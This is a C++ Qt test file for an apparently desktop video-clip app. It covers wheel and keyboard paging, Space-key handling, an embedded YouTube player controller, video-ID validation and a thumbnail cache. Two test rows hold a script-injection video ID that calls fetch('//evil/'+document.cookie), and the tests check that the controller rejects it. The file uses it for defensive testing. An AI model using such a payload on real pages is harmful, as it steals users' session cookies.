#include "Bridge.h"
#include "CachedThumb.h"
#include "FakeHttpServer.h"
#include "MacAppState.h"
#include "PagingCoordinator.h"
#include "PlayerController.h"
#include "SpaceKeyFilter.h"
#include "ThumbCache.h"

#include <QApplication>
#include <QBuffer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QKeyEvent>
#include <QLineEdit>
#include <QListView>
#include <QListWidget>
#include <QNetworkAccessManager>
#include <QPainter>
#include <QPlainTextEdit>
#include <QRegularExpression>
#include <QSettings>
#include <QSignalSpy>
#include <QStandardItemModel>
#include <QStyledItemDelegate>
#include <QTemporaryDir>
#include <QTest>
#include <QVBoxLayout>
#include <QWheelEvent>
#include <memory>

using namespace clipvane;
using clipvane::test::FakeHttpServer;
using clipvane::test::FakeReply;

// One wheel event at a moment: its delta, whether it is precise, and the time in milliseconds.
struct Wheel
{
    double delta;
    bool precise;
    qint64 atMs;
};
using Wheels = QList<Wheel>;
Q_DECLARE_METATYPE(Wheels)

namespace {

// Counts the presses of one key (not of the modifiers) that reach a widget.
class KeyCounter : public QObject
{
public:
    explicit KeyCounter(int key = Qt::Key_Space)
        : m_key(key)
    {}
    int presses = 0;

protected:
    bool eventFilter(QObject *, QEvent *event) override
    {
        if (event->type() == QEvent::KeyPress && static_cast<QKeyEvent *>(event)->key() == m_key)
            ++presses;
        return false;
    }

private:
    int m_key;
};

// Records every script the controller sends.
struct FakePage : PlayerPage
{
    explicit FakePage(QStringList &log)
        : log(log)
    {}
    void runScript(const QString &script) override { log << script; }
    QStringList &log;
};

// A time-out the test fires by hand.
struct FakeTimer : OneShotTimer
{
    void start(std::chrono::milliseconds interval, std::function<void()> fire) override
    {
        lastInterval = interval;
        onFire = std::move(fire);
        active = true;
    }
    void stop() override { active = false; }
    bool isActive() const override { return active; }
    void fire()
    {
        if (std::exchange(active, false))
            onFire();
    }
    std::chrono::milliseconds lastInterval{0};
    std::function<void()> onFire;
    bool active = false;
};

QJsonValue parsed(const QString &json)
{
    QJsonParseError error{};
    const QJsonDocument document = QJsonDocument::fromJson((u'[' + json + u']').toUtf8(), &error);
    if (error.error != QJsonParseError::NoError)
        qFatal("bad JSON in a test row: %s", qPrintable(json));
    return document.array().at(0);
}

// A row's text with video A and video B spelled out, as IDs and as script arguments.
QString withIDs(const char *text)
{
    static const QList<QPair<QString, QString>> ids{{u"A"_qs, u"dQw4w9WgXcQ"_qs}, {u"B"_qs, u"9bZkp7q19f0"_qs}};
    QString out = QString::fromUtf8(text);
    for (const auto &[token, id] : ids) {
        out.replace(u'(' + token + u')', u"(\""_qs + id + u"\")"_qs);
        out.replace(QRegularExpression(u"\\b"_qs + token + u"\\b"_qs), id);
    }
    return out;
}

// Drives one controller through a row's steps, written as one text separated by ", ":
//   attach        a new page (the earlier one stays alive)
//   drop          the current page goes away
//   ready         the page says it is ready
//   msg JSON      the page posts JSON through the bridge
//   load ID 0|1   load with autoplay off or on
//   play, pause   the operations of the same names
//   timeout       the loading time-out expires (when it runs)
struct Harness
{
    QStringList scripts;
    FakeTimer *timer = new FakeTimer;
    PlayerController controller{std::unique_ptr<OneShotTimer>(timer)};
    Bridge bridge{controller};
    std::vector<std::unique_ptr<FakePage>> pages;

    void run(const QString &steps)
    {
        for (const QString &step : steps.split(u", "_qs, Qt::SkipEmptyParts)) {
            const QString verb = step.section(u' ', 0, 0);
            const QString rest = step.section(u' ', 1);
            if (verb == u"attach") {
                pages.push_back(std::make_unique<FakePage>(scripts));
                controller.attach(pages.back().get());
            } else if (verb == u"drop") {
                pages.back().reset();
            } else if (verb == u"ready") {
                bridge.postMessage(parsed(uR"({"t":"ready"})"_qs));
            } else if (verb == u"msg") {
                bridge.postMessage(parsed(rest));
            } else if (verb == u"load") {
                controller.load(rest.section(u' ', 0, 0), rest.section(u' ', 1, 1) == u"1");
            } else if (verb == u"play") {
                controller.play();
            } else if (verb == u"pause") {
                controller.pause();
            } else if (verb == u"timeout") {
                timer->fire();
            } else {
                qFatal("unknown step %s", qPrintable(step));
            }
        }
    }
};

QByteArray encoded(const QSize &size, const char *format = "PNG")
{
    QImage image(size, QImage::Format_RGB32);
    image.fill(Qt::red);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, format);
    return bytes;
}

FakeReply imageReply(const QByteArray &body, std::chrono::milliseconds delay = {})
{
    FakeReply reply;
    reply.body = body;
    reply.headers = {{"Content-Type", "image/png"}};
    reply.delay = delay;
    return reply;
}

// A list of `rows` rows whose delegate paints each row's thumbnail the way the library's does.
struct ThumbList : QStyledItemDelegate
{
    ThumbList(ThumbCache &cache, const QList<QUrl> &addresses, int height)
    {
        for (const QUrl &url : addresses) {
            auto *item = new QStandardItem(url.path());
            item->setData(url, Qt::UserRole);
            model.appendRow(item);
        }
        view.setUniformItemSizes(true);
        view.resize(320, height);
        view.setItemDelegate(this);
        view.setModel(&model);
        thumbs = new CachedThumb(cache, view);
        view.show();
    }
    void paint(QPainter *painter, const QStyleOptionViewItem &option, const QModelIndex &index) const override
    {
        thumbs->paint(*painter, QRectF(option.rect.topLeft(), CachedThumb::kRowSize), index.data(Qt::UserRole).toUrl(),
                      index);
    }
    QSize sizeHint(const QStyleOptionViewItem &, const QModelIndex &) const override { return {300, 56}; }

    QStandardItemModel model;
    QListView view;
    CachedThumb *thumbs = nullptr;
};

} // namespace

class PlayerTest : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    FakeHttpServer m_server;
    QNetworkAccessManager m_network;

    QUrl address(int n) const { return m_server.url(QStringLiteral("/vi/%1/mqdefault.jpg").arg(n)); }

private Q_SLOTS:
    void initTestCase() { QVERIFY(m_server.start()); }

    void init()
    {
        m_server.clearRequests();
        m_server.setHandler({});
        m_server.setDefaultReply(imageReply(encoded({320, 180})));
    }

    void wheel_data()
    {
        QTest::addColumn<Wheels>("events");
        QTest::addColumn<QList<int>>("pages"); // the direction paged by each event, 0 for none

        const auto px = [](double delta, qint64 at) { return Wheel{delta, true, at}; };
        const auto line = [](double delta, qint64 at) { return Wheel{delta, false, at}; };

        QTest::newRow("precise: exactly 28 does not page") << Wheels{px(-14, 0), px(-14, 10)} << QList<int>{0, 0};
        QTest::newRow("precise: one more point does")
            << Wheels{px(-14, 0), px(-14, 10), px(-1, 20)} << QList<int>{0, 0, +1};
        QTest::newRow("precise: 10s page on the third, then a lock-out, then from 0")
            << Wheels{px(-10, 0),   px(-10, 10),  px(-10, 20),  px(-10, 100), px(-10, 469),
                      px(-10, 470), px(-10, 480), px(-10, 490), px(-10, 500)}
            << QList<int>{0, 0, +1, 0, 0, 0, 0, +1, 0};
        QTest::newRow("precise: +20 then -20 cancel out")
            << Wheels{px(20, 0), px(-20, 10), px(20, 20), px(-20, 30)} << QList<int>{0, 0, 0, 0};
        QTest::newRow("precise: upward pages back") << Wheels{px(29, 0)} << QList<int>{-1};
        QTest::newRow("precise: residue carries into the next gesture")
            << Wheels{px(-20, 0), px(-9, 5000)} << QList<int>{0, +1};
        QTest::newRow("line: a notch pages at once, 0.1 s later ignored, 0.2 s later again")
            << Wheels{line(-1, 0), line(-1, 100), line(-1, 200)} << QList<int>{+1, 0, +1};
        QTest::newRow("line: lock-out ends after 0.18 s")
            << Wheels{line(1, 0), line(1, 179), line(1, 180)} << QList<int>{-1, 0, -1};
        QTest::newRow("line: 0.1 is not enough, 0.11 is") << Wheels{line(-0.1, 0), line(0.11, 1)} << QList<int>{0, -1};
        QTest::newRow("line: small notches do not accumulate")
            << Wheels{line(-0.05, 0), line(-0.05, 1), line(-0.05, 2)} << QList<int>{0, 0, 0};
        QTest::newRow("horizontal only: nothing") << Wheels{px(0, 0), line(0, 1)} << QList<int>{0, 0};
        QTest::newRow("events in a lock-out do not accumulate")
            << Wheels{line(-1, 0), px(-25, 50), px(-25, 500)} << QList<int>{+1, 0, 0};
    }

    void wheel()
    {
        QFETCH(Wheels, events);
        qint64 now = 0;
        PagingCoordinator coordinator([&now] { return now; });
        QList<int> paged;
        for (const Wheel &event : events) {
            now = event.atMs;
            int direction = 0;
            coordinator.handleWheel(event.delta, event.precise, [&direction](int d) { direction = d; });
            paged << direction;
        }
        QTEST(paged, "pages");
    }

    void lockOutCountsFromAfterThePageStep()
    {
        // A slow page step (the list reloads the player) must not eat into the lock-out.
        qint64 now = 0;
        PagingCoordinator coordinator([&now] { return now; });
        int steps = 0;
        const auto onPage = [&](int) {
            ++steps;
            now += 1000;
        };
        coordinator.handleWheel(-1, false, onPage);
        now += 100;
        coordinator.handleWheel(-1, false, onPage);
        QCOMPARE(steps, 1);
    }

    void wheelEvents_data()
    {
        QTest::addColumn<QPoint>("pixel");
        QTest::addColumn<QPoint>("angle");
        QTest::addColumn<double>("delta");
        QTest::addColumn<bool>("precise");
        QTest::newRow("trackpad") << QPoint(0, -12) << QPoint(0, -96) << -12.0 << true;
        QTest::newRow("wheel notch down") << QPoint() << QPoint(0, -120) << -1.0 << false;
        QTest::newRow("half notch up") << QPoint() << QPoint(0, 60) << 0.5 << false;
        QTest::newRow("horizontal trackpad") << QPoint(30, 0) << QPoint(240, 0) << 0.0 << true;
    }

    void wheelEvents()
    {
        QFETCH(QPoint, pixel);
        QFETCH(QPoint, angle);
        QFETCH(bool, precise);
        const QWheelEvent event(QPointF(), QPointF(), pixel, angle, Qt::NoButton, Qt::NoModifier, Qt::NoScrollPhase,
                                false);
        bool isPrecise = !precise;
        QTEST(PagingCoordinator::verticalDelta(event, &isPrecise), "delta");
        QCOMPARE(isPrecise, precise);
    }

    void keys_data()
    {
        QTest::addColumn<int>("key");
        QTest::addColumn<int>("modifiers");
        QTest::addColumn<int>("direction");
        QTest::newRow("Down") << int(Qt::Key_Down) << 0 << +1;
        QTest::newRow("Up") << int(Qt::Key_Up) << 0 << -1;
        QTest::newRow("J") << int(Qt::Key_J) << 0 << +1;
        QTest::newRow("K") << int(Qt::Key_K) << 0 << -1;
        QTest::newRow("Shift+J") << int(Qt::Key_J) << int(Qt::ShiftModifier) << +1;
        QTest::newRow("Keypad Up") << int(Qt::Key_Up) << int(Qt::KeypadModifier) << -1;
        QTest::newRow("Ctrl+J") << int(Qt::Key_J) << int(Qt::ControlModifier) << 0;
        QTest::newRow("Alt+Down") << int(Qt::Key_Down) << int(Qt::AltModifier) << 0;
        QTest::newRow("Ctrl+K") << int(Qt::Key_K) << int(Qt::ControlModifier) << 0;
        QTest::newRow("Meta+Up") << int(Qt::Key_Up) << int(Qt::MetaModifier) << 0;
        QTest::newRow("L") << int(Qt::Key_L) << 0 << 0;
        QTest::newRow("Space") << int(Qt::Key_Space) << 0 << 0;
        QTest::newRow("Page Down") << int(Qt::Key_PageDown) << 0 << 0;
    }

    void keys()
    {
        QFETCH(int, key);
        QFETCH(int, modifiers);
        const QKeyEvent event(QEvent::KeyPress, key, Qt::KeyboardModifiers(modifiers));
        QTEST(PagingCoordinator::keyDirection(event), "direction");
    }

    void spaceKey_data()
    {
        QTest::addColumn<QString>("windowTitle");
        QTest::addColumn<QString>("focus");
        QTest::addColumn<int>("modifiers");
        QTest::addColumn<int>("key");
        QTest::addColumn<bool>("toggles");

        const QString main = QStringLiteral("Clipvane");
        const auto row = [](const char *name, const QString &title, const char *focus, Qt::KeyboardModifiers mods,
                            int key, bool toggles) {
            QTest::newRow(name) << title << QString::fromLatin1(focus) << int(mods) << key << toggles;
        };
        row("list focused", main, "list", Qt::NoModifier, Qt::Key_Space, true);
        row("keypad space", main, "list", Qt::KeypadModifier, Qt::Key_Space, true);
        row("search field keeps Space", main, "search", Qt::NoModifier, Qt::Key_Space, false);
        row("text view keeps Space", main, "notes", Qt::NoModifier, Qt::Key_Space, false);
        row("Shift+Space", main, "list", Qt::ShiftModifier, Qt::Key_Space, false);
        row("Ctrl+Space", main, "list", Qt::ControlModifier, Qt::Key_Space, false);
        row("Alt+Space", main, "list", Qt::AltModifier, Qt::Key_Space, false);
        row("Meta+Space", main, "list", Qt::MetaModifier, Qt::Key_Space, false);
        row("another key", main, "list", Qt::NoModifier, Qt::Key_Return, false);
        row("settings window", QStringLiteral("Settings"), "list", Qt::NoModifier, Qt::Key_Space, false);
        row("title only close to the main one", QStringLiteral("Clipvane "), "list", Qt::NoModifier, Qt::Key_Space,
            false);
    }

    void spaceKey()
    {
        QFETCH(QString, windowTitle);
        QFETCH(QString, focus);
        QFETCH(int, modifiers);
        QFETCH(int, key);
        QFETCH(bool, toggles);

        QSettings standard(m_dir.filePath(QStringLiteral("s.ini")), QSettings::IniFormat);
        MacAppState state(standard);
        SpaceKeyFilter filter(state);

        QWidget window;
        window.setWindowTitle(windowTitle);
        auto *layout = new QVBoxLayout(&window);
        auto *list = new QListWidget;
        list->addItems({QStringLiteral("one"), QStringLiteral("two")});
        auto *search = new QLineEdit;
        auto *notes = new QPlainTextEdit;
        layout->addWidget(search);
        layout->addWidget(list);
        layout->addWidget(notes);
        window.show();
        window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        QWidget *target = focus == u"list"     ? static_cast<QWidget *>(list)
                          : focus == u"search" ? static_cast<QWidget *>(search)
                                               : static_cast<QWidget *>(notes);
        target->setFocus();
        QCOMPARE(QApplication::focusWidget(), target);

        KeyCounter counter(key);
        target->installEventFilter(&counter);
        for (int press = 1; press <= 2; ++press) {
            QTest::keyClick(target, Qt::Key(key), Qt::KeyboardModifiers(modifiers));
            // Each press toggles, and a taken press never reaches the focused widget.
            QCOMPARE(state.player().isPlaying(), toggles && press == 1);
            QCOMPARE(counter.presses, toggles ? 0 : press);
        }
    }

    void stateGoneOrFilterGonePassesSpaceOn()
    {
        QSettings standard(m_dir.filePath(QStringLiteral("s.ini")), QSettings::IniFormat);
        auto state = std::make_unique<MacAppState>(standard);
        auto filter = std::make_unique<SpaceKeyFilter>(*state);
        QWidget window;
        window.setWindowTitle(QStringLiteral("Clipvane"));
        auto *list = new QListWidget(&window);
        window.show();
        window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        list->setFocus();
        KeyCounter counter;
        list->installEventFilter(&counter);

        state.reset();
        QTest::keyClick(list, Qt::Key_Space);
        QCOMPARE(counter.presses, 1);
        filter.reset();
        QTest::keyClick(list, Qt::Key_Space);
        QCOMPARE(counter.presses, 2);
    }

    void steps_data()
    {
        QTest::addColumn<QString>("steps");
        QTest::addColumn<QString>("scripts"); // every script sent, separated by " "
        QTest::addColumn<bool>("playing");
        QTest::addColumn<bool>("loading");
        QTest::addColumn<QString>("error"); // empty: none
        QTest::addColumn<QString>("pending");

        const auto row = [](const char *name, const char *steps, const char *scripts, bool playing, bool loading,
                            const char *error, const char *pending = "") {
            QTest::newRow(name) << withIDs(steps) << withIDs(scripts) << playing << loading
                                << QString::fromLatin1(error) << withIDs(pending);
        };

        // Waiting for the page.
        row("no page: load waits", "load A 1", "", false, false, "", "A");
        row("attached, not ready: load waits", "attach, load A 0", "", false, false, "", "A");
        row("ready sends the pending cue", "attach, load A 0, ready", "cueVideo(A)", false, true, "");
        row("ready sends the pending load", "attach, load A 1, ready", "loadVideo(A)", true, true, "");
        row("two loads before ready: only the second, with its own flag", "attach, load A 1, load B 0, ready",
            "cueVideo(B)", false, true, "");
        row("second ready with nothing pending sends nothing", "attach, ready, load A 0, ready", "cueVideo(A)", false,
            true, "");
        row("play before ready only changes the flag", "attach, play", "", true, false, "");

        // The same video again.
        row("same video without autoplay does nothing", "attach, ready, load A 0, load A 0", "cueVideo(A)", false, true,
            "");
        row("same video with autoplay only plays", "attach, ready, load A 0, load A 1", "cueVideo(A) play()", true,
            true, "");

        // The state table, after "attach, ready, load A 1".
        const auto after = [&row](const char *name, const char *more, bool playing, bool loading,
                                  const char *error = "") {
            row(name, (QByteArray("attach, ready, load A 1, ") + more).constData(), "loadVideo(A)", playing, loading,
                error);
        };
        after("state 1 plays, ends loading", R"(msg {"t":"state","s":1})", true, false);
        after("state 0 ends", R"(msg {"t":"state","s":0})", false, false);
        after("state 2 pauses", R"(msg {"t":"state","s":2})", false, false);
        after("state 5 cued", R"(msg {"t":"state","s":5})", false, false);
        after("state -1 ignored", R"(msg {"t":"state","s":-1})", true, true);
        after("state 3 ignored", R"(msg {"t":"state","s":3})", true, true);
        after("state 4 only ends loading", R"(msg {"t":"state","s":4})", true, false);
        after("state 1.0 is the integer 1", R"(msg {"t":"state","s":1.0})", true, false);
        after("state without a number is -1", R"(msg {"t":"state"})", true, true);
        after("state as text is -1", R"(msg {"t":"state","s":"1"})", true, true);
        after("state 1.5 is -1", R"(msg {"t":"state","s":1.5})", true, true);
        after("state beyond int is -1", R"(msg {"t":"state","s":1e300})", true, true);

        // Errors.
        after("error 150", R"(msg {"t":"error","c":150})", false, false, "150");
        after("error without code is -1", R"(msg {"t":"error"})", false, false, "-1");
        row("play keeps the error", R"(attach, ready, load A 1, msg {"t":"error","c":101}, play)",
            "loadVideo(A) play()", true, false, "101");
        after("same video keeps the error", R"(msg {"t":"error","c":101}, load A 0)", false, false, "101");
        row("another video clears the error", R"(attach, ready, load A 1, msg {"t":"error","c":101}, load B 0)",
            "loadVideo(A) cueVideo(B)", false, true, "");

        // Malformed messages change nothing.
        after("text body", R"(msg "ready")", true, true);
        after("array body", R"(msg [{"t":"error"}])", true, true);
        after("null body", "msg null", true, true);
        after("no type", R"(msg {"s":1})", true, true);
        after("type not text", R"(msg {"t":1,"s":1})", true, true);
        after("unknown type", R"(msg {"t":"volume","s":1})", true, true);

        after("time-out ends loading only", "timeout", true, false);

        // A new web view.
        row("re-attach while playing loads again", "attach, ready, load A 1, attach, ready",
            "loadVideo(A) loadVideo(A)", true, true, "");
        row("re-attach while paused cues again", "attach, ready, load A 1, pause, attach, ready",
            "loadVideo(A) pause() cueVideo(A)", false, true, "");
        row("the old page gets nothing after re-attach", "attach, ready, load A 1, attach, play", "loadVideo(A)", true,
            true, "", "A");
        row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A)", true, true,
            "", "B");
        row("page gone: pause only changes the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A)", false,
            true, "");

        // Hostile or unplayable IDs are never loaded nor kept pending.
        row("hostile ID, ready", "attach, ready, load a');fetch('//evil/'+document.cookie);(' 1", "", false, false, "");
        row("hostile ID before ready", "attach, load a');fetch('//evil/'+document.cookie);(' 1, ready", "", false,
            false, "");
    }

    void steps()
    {
        QFETCH(QString, steps);
        QFETCH(QString, scripts);
        QFETCH(bool, loading);
        QFETCH(QString, error);

        Harness h;
        h.run(steps);
        QCOMPARE(h.scripts.join(u' '), scripts);
        QTEST(h.controller.isPlaying(), "playing");
        QCOMPARE(h.controller.isLoading(), loading);
        QCOMPARE(h.timer->isActive(), loading);
        if (loading)
            QCOMPARE(h.timer->lastInterval, std::chrono::milliseconds(PlayerController::kLoadingTimeout));
        QCOMPARE(h.controller.embedError(), error.isEmpty() ? std::optional<int>() : std::optional<int>(error.toInt()));
        QTEST(h.controller.pendingID().value_or(QString()), "pending");
    }

    void changeSignalsFollowTheValues()
    {
        Harness h;
        QSignalSpy playing(&h.controller, &PlayerController::isPlayingChanged);
        QSignalSpy loading(&h.controller, &PlayerController::isLoadingChanged);
        QSignalSpy error(&h.controller, &PlayerController::embedErrorChanged);
        h.run(uR"(attach, ready, load dQw4w9WgXcQ 1, msg {"t":"error","c":2})"_qs);
        QCOMPARE(playing.count(), 2); // on, then off by the error
        QCOMPARE(loading.count(), 2);
        QCOMPARE(error.count(), 1);
    }

    void aBridgeOutlivingItsControllerIsHarmless()
    {
        auto controller = std::make_unique<PlayerController>();
        Bridge bridge(*controller);
        controller.reset();
        bridge.postMessage(parsed(QStringLiteral(R"({"t":"ready"})")));
    }

    void playableIDs_data()
    {
        QTest::addColumn<QString>("id");
        QTest::addColumn<bool>("playable");
        QTest::newRow("YouTube ID") << u"dQw4w9WgXcQ"_qs << true;
        QTest::newRow("with - and _") << u"a-b_c-d_e"_qs << true;
        QTest::newRow("letters of other scripts") << u"видеоролик"_qs << true;
        QTest::newRow("x- record") << u"x-1234567"_qs << false;
        QTest::newRow("too short") << u"abcde"_qs << false;
        QTest::newRow("empty") << QString() << false;
        QTest::newRow("quote") << u"abc'def"_qs << false;
        QTest::newRow("backslash") << u"abc\\def"_qs << false;
        QTest::newRow("space") << u"abc def"_qs << false;
        QTest::newRow("line separator") << QString::fromUtf16(u"abcdef\u2028") << false;
        QTest::newRow("unpaired surrogate") << u"abcdef"_qs + QChar(0xD800) << false;
    }

    void playableIDs()
    {
        QFETCH(QString, id);
        QTEST(PlayerController::isPlayableID(id), "playable");
    }

    // The stored address when it is a web address, else the short link.
    void addresses_data()
    {
        QTest::addColumn<QString>("url");
        QTest::addColumn<QString>("expected");
        const QString stored = u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs;
        const QString shortLink = u"https://youtu.be/dQw4w9WgXcQ"_qs;
        QTest::newRow("stored link") << stored << stored;
        QTest::newRow("empty") << QString() << shortLink;
        QTest::newRow("not a web address") << u"file:///etc/passwd"_qs << shortLink;
        QTest::newRow("relative") << u"watch"_qs << shortLink;
    }
    void addresses()
    {
        QFETCH(QString, url);
        QTEST(PlayerController::videoAddress(u"dQw4w9WgXcQ"_qs, url).toString(), "expected");
    }

    void playerPageOnTheServiceOrigin()
    {
        QCOMPARE(PlayerController::playerPageURL(QUrl(u"http://127.0.0.1:8470/api"_qs)).toString(),
                 u"http://127.0.0.1:8470/player.html"_qs);
        QCOMPARE(PlayerController::playerPageURL(QUrl(u"https://clipvane.example/sub/api/"_qs)).toString(),
                 u"https://clipvane.example/player.html"_qs);
    }

    void requestsForOneAddressAreShared()
    {
        ThumbCache cache(m_network);
        QObject rowA, rowB;
        QSignalSpy ready(&cache, &ThumbCache::ready);
        cache.request(address(1), &rowA);
        cache.request(address(1), &rowB);
        QCOMPARE(cache.fetchCount(), 1);
        QVERIFY(ready.wait());
        QCOMPARE(m_server.requestCount(), 1);
        QCOMPARE(cache.image(address(1)).size(), QSize(320, 180));
        QCOMPARE(cache.totalCost(), 230400);
        // Cached: a later request fetches nothing.
        cache.request(address(1), &rowA);
        QCOMPARE(cache.fetchCount(), 0);
    }

    void badBodiesCacheNothing_data()
    {
        QTest::addColumn<int>("status");
        QTest::addColumn<QByteArray>("body");
        QTest::newRow("empty") << 200 << QByteArray();
        QTest::newRow("error page") << 200 << QByteArray("<html><body>Not here</body></html>");
        QTest::newRow("truncated image") << 200 << encoded({320, 180}).left(60);
        QTest::newRow("image with a 404") << 404 << QByteArray("nope");
        QTest::newRow("server error") << 500 << encoded({320, 180});
        QTest::newRow("too large") << 200 << QByteArray(ThumbCache::kMaxBodyBytes + 1, 'x');
    }

    void badBodiesCacheNothing()
    {
        QFETCH(int, status);
        QFETCH(QByteArray, body);
        FakeReply reply = imageReply(body);
        reply.status = status;
        m_server.setDefaultReply(reply);
        ThumbCache cache(m_network);
        QObject row;
        QSignalSpy failed(&cache, &ThumbCache::failed);
        QSignalSpy ready(&cache, &ThumbCache::ready);
        cache.request(address(2), &row);
        QVERIFY(failed.wait());
        QCOMPARE(ready.count(), 0);
        QVERIFY(!cache.contains(address(2)));
        QCOMPARE(cache.totalCost(), 0);
        QCOMPARE(cache.fetchCount(), 0);
    }

    void theLastHolderLettingGoAbandonsTheFetch()
    {
        m_server.setDefaultReply(imageReply(encoded({320, 180}), std::chrono::seconds(5)));
        ThumbCache cache(m_network);
        QObject rowA, rowB;
        QSignalSpy ready(&cache, &ThumbCache::ready);
        QSignalSpy failed(&cache, &ThumbCache::failed);
        cache.request(address(3), &rowA);
        cache.request(address(3), &rowB);
        QTRY_COMPARE(m_server.requestCount(), 1);
        cache.release(address(3), &rowA);
        QVERIFY(cache.isFetching(address(3)));
        cache.release(address(3), &rowB);
        QVERIFY(!cache.isFetching(address(3)));
        QTest::qWait(100);
        QCOMPARE(ready.count() + failed.count(), 0);
        QVERIFY(!cache.contains(address(3)));
    }

    void costIsBounded()
    {
        ThumbCache cache(m_network);
        QImage thumb(320, 180, QImage::Format_ARGB32_Premultiplied);
        const int count = 300; // about 66 MiB of estimated pixels
        for (int n = 0; n < count; ++n)
            cache.store(thumb, address(1000 + n));
        QVERIFY(cache.totalCost() <= ThumbCache::kCostLimit);
        QVERIFY(cache.totalCost() > ThumbCache::kCostLimit - ThumbCache::costOf(thumb));
        QVERIFY(cache.contains(address(1000 + count - 1)));
        QVERIFY(!cache.contains(address(1000)));
        // Replacing an entry does not count it twice.
        const qsizetype before = cache.totalCost();
        cache.store(thumb, address(1000 + count - 1));
        QVERIFY(cache.totalCost() <= before);
        QVERIFY(cache.contains(address(1000 + count - 1)));
        // The cost is of the size in device-independent pixels.
        QImage doubled(640, 360, QImage::Format_ARGB32_Premultiplied);
        doubled.setDevicePixelRatio(2);
        QCOMPARE(ThumbCache::costOf(doubled), 230400);
    }

    void aListAsksOnlyForVisibleRowsAndLetsGoWhenScrolledAway()
    {
        m_server.setDefaultReply(imageReply(encoded({320, 180}), std::chrono::seconds(5)));
        ThumbCache cache(m_network);
        QList<QUrl> addresses;
        for (int n = 0; n < 200; ++n)
            addresses << address(n);
        ThumbList list(cache, addresses, 56 * 5);
        QVERIFY(QTest::qWaitForWindowExposed(&list.view));
        QTRY_VERIFY(cache.fetchCount() > 0);
        QVERIFY2(cache.fetchCount() <= 7, qPrintable(QString::number(cache.fetchCount())));
        QVERIFY(cache.isFetching(address(0)));

        list.view.scrollToBottom();
        QTRY_VERIFY(cache.isFetching(address(199)));
        QVERIFY(!cache.isFetching(address(0)));
        QCOMPARE(cache.fetchCount(), list.thumbs->wantedCount());
        QVERIFY(cache.fetchCount() <= 7);
    }

    void anArrivingImageRepaintsItsRow()
    {
        ThumbCache cache(m_network);
        ThumbList list(cache, {address(7)}, 200);
        QVERIFY(QTest::qWaitForWindowExposed(&list.view));
        QTRY_VERIFY(cache.contains(address(7)));
        QTRY_COMPARE(list.thumbs->wantedCount(), 0);
        // The repainted row shows the image (red) instead of the placeholder.
        QTRY_COMPARE(list.view.viewport()->grab().toImage().pixelColor(43, 24), QColor(Qt::red));
    }
};

QTEST_MAIN(PlayerTest)
#include "PlayerTest.moc"
